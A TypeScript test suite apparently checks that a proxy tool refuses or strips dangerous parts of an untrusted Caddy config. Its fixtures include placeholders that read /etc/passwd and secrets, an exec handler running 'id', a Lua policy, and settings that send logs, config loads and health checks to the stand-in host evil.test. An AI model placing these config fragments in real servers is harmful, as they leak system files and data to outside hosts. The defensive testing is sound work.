import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, it } from "node:test";
import { UsageError } from "#wsrally/base/errors.js";
import { createAdoption } from "#wsrally/proxy/caddy/adopt/adoption.js";
import { isRecord, type Json } from "#wsrally/proxy/caddy/adopt/json.js";
import { remapConfig } from "#wsrally/proxy/caddy/adopt/remap-config.js";
import { confineConfig } from "#wsrally/proxy/caddy/confine/confine-config.js";
import { readConfig } from "#wsrally/proxy/caddy/language/read-config.js";
import { withFolder } from "../../support/with-folder.js";

type Handler = Readonly<Record<string, unknown>>;

const proxy: Handler = { handler: "reverse_proxy", upstreams: [{ dial: "app.internal:9000" }] };

/** As a stranger's, made to run here: what is left of it, or the refusal. */
async function confined(config: unknown): Promise<{ readonly config: Json; readonly changes: string }> {
  let found: { config: Json; changes: string } | null = null;
  await withFolder(async (folder) => {
    const file = join(folder, "caddy.json");
    writeFileSync(file, JSON.stringify(config, null, 1));
    const confinedTo = [{ path: folder, tracked: null }];
    const read = readConfig(file, confinedTo);
    const adoption = createAdoption(file, read, {
      source: { kind: "file", file },
      backend: { host: "127.0.0.1", port: 1 },
      ...{ connections: 1, path: null, serverName: null, host: null, access: "opened", upstream: "ours" },
      ...{ confinedTo, variant: null, isPlaced: false },
    });
    const json: unknown = JSON.parse(JSON.stringify(read.json?.value));
    assert.ok(isRecord(json));
    remapConfig(json, { port: 80, tls: false }, adoption);
    confineConfig(json, read, adoption);
    found = { config: json, changes: adoption.changes().join("\n") };
  });
  return found ?? assert.fail();
}

function site(handle: readonly Handler[], route: Handler = {}, server: Handler = {}): unknown {
  return {
    apps: { http: { servers: { a: { listen: [":80"], routes: [{ ...route, handle }], ...server } } } },
  };
}

describe("a stranger's config", () => {
  const refused: readonly (readonly [what: string, config: unknown, says: RegExp])[] = [
    [
      "a file in an answer",
      site([{ handler: "static_response", body: "{file./etc/passwd}" }]),
      /:\d+: what `\{file\./,
    ],
    [
      "one in a header's name",
      site([{ handler: "headers", response: { set: { "X-{file./etc/passwd}": ["1"] } } }]),
      /\{file\./,
    ],
    [
      "one in a header that is sent",
      site([{ ...proxy, headers: { request: { set: { X: ["{file./etc/passwd}"] } } } }]),
      /\{file\./,
    ],
    ["the host's name", site([{ handler: "static_response", body: "{system.hostname}" }]), /\{system\./],
    ["a placeholder of a plugin", site([{ handler: "vars", a: "{secrets.x}" }]), /\{secrets\./],
    ["templates", site([{ handler: "templates" }]), /what `templates` does/],
    ["a handler of a plugin", site([{ handler: "exec", command: "id" }]), /what `exec` does/],
    [
      "a file system",
      site([{ handler: "file_server", file_system: { backend: "s3" } }]),
      /what `file_system` does/,
    ],
    [
      "a matcher that looks at files",
      site([proxy], { match: [{ expression: "file({'root': '/etc', 'try_files': ['passwd']})" }] }),
      /what `file\(…\)` does/,
    ],
    ["a matcher of a plugin", site([proxy], { match: [{ maxmind_geolocation: {} }] }), /maxmind_geolocation/],
    [
      "another protocol to the upstream",
      site([{ ...proxy, transport: { protocol: "exec" } }]),
      /what `exec` does/,
    ],
    [
      "a source of credentials",
      site(
        [{ handler: "authentication", providers: { ldap: {} } }],
        {},
        { errors: { routes: [{ handle: [{ handler: "authentication", providers: { ldap: {} } }] }] } },
      ),
      /^$/,
    ],
    [
      "a policy that runs code",
      site([{ ...proxy, load_balancing: { selection_policy: { policy: "lua" } } }]),
      /what `lua` does/,
    ],
    ["a field that nobody knows", site([{ ...proxy, new_field: "/etc/passwd" }]), /what `new_field` does/],
    ["a prototype's name", site([{ handler: "constructor" }]), /what `constructor` does/],
    ["wsrally's own mark", site([{ ...proxy, upstreams: [{ dial: "@wsrally-port-7@" }] }]), /^$/],
  ];
  for (const [what, config, says] of refused)
    it(`is refused for ${what}, or goes without it`, async () => {
      if (says.source === "^$") {
        const { config: left } = await confined(config);
        assert.doesNotMatch(JSON.stringify(left), /ldap|wsrally-port-7/);
        return;
      }
      await assert.rejects(
        confined(config),
        (thrown) => thrown instanceof UsageError && says.test(thrown.message),
      );
    });

  it("loses all that reaches out, and is told so", async () => {
    const { config, changes } = await confined({
      admin: { listen: "0.0.0.0:2019", config: { load: { module: "http", url: "http://evil.test" } } },
      storage: { module: "file_system", root: "/etc" },
      logging: { logs: { default: { writer: { output: "net", address: "evil.test:1" } } } },
      apps: {
        tls: { automation: { policies: [{ issuers: [{ module: "acme", ca: "https://evil.test" }] }] } },
        pki: { certificate_authorities: { local: { install_trust: true } } },
        exec: { commands: ["id"] },
        http: {
          servers: {
            a: {
              listen: ["0.0.0.0:80", "unix//etc/x.sock"],
              listener_wrappers: [{ wrapper: "proxy_protocol" }],
              trusted_proxies: { source: "cloudflare" },
              logs: {},
              routes: [
                { handle: [{ handler: "tracing", span: "a" }, { handler: "acme_server" }] },
                {
                  match: [{ file: { root: "/etc", try_files: ["passwd"] } }],
                  handle: [{ handler: "vars", root: "/etc" }],
                },
                { handle: [{ handler: "file_server", root: "/etc" }], match: [{ path: ["/x"] }] },
                {
                  handle: [
                    {
                      ...proxy,
                      health_checks: { active: { uri: "http://evil.test" } },
                      transport: { protocol: "fastcgi", root: "/etc" },
                    },
                  ],
                  match: [{ path: ["/php"] }],
                },
                {
                  handle: [
                    {
                      ...proxy,
                      dynamic_upstreams: { source: "a", name: "evil.test" },
                      transport: {
                        protocol: "http",
                        tls: {
                          client_certificate_file: "/etc/x",
                          ca: { provider: "http", endpoints: ["evil.test"] },
                        },
                      },
                    },
                  ],
                },
              ],
            },
          },
        },
      },
    });
    const left = JSON.stringify(config);
    assert.doesNotMatch(left, /evil|\/etc|"id"|0\.0\.0\.0|proxy_protocol|cloudflare|fastcgi|tracing|acme/);
    assert.match(left, /"install_trust":false/);
    for (const said of [
      "admin was left out",
      "storage was left out",
      "logging was left out",
      "apps.exec was left out",
      "tracing was left out",
      "dynamic upstreams",
    ])
      assert.ok(changes.includes(said), said);
  });

  it("stays what it is where it is harmless", async () => {
    const handlers = [
      { handler: "encode", encodings: { gzip: { level: 5 } } },
      { handler: "headers", response: { set: { "X-A": ["{http.request.host} {time.now}"] } } },
      { handler: "rewrite", uri: "/a{http.request.uri}" },
      {
        ...proxy,
        flush_interval: -1,
        stream_close_delay: "5m",
        load_balancing: { selection_policy: { policy: "cookie", fallback: { policy: "first" } } },
      },
    ];
    const { config } = await confined(
      site(handlers, { match: [{ not: [{ path: ["/x"] }] }], terminal: true }),
    );
    const left = JSON.stringify(config);
    for (const kept of [
      '"level":5',
      "{time.now}",
      '"uri":"/a{http.request.uri}"',
      '"policy":"cookie"',
      '"flush_interval":-1',
    ])
      assert.ok(left.includes(kept), kept);
  });
});
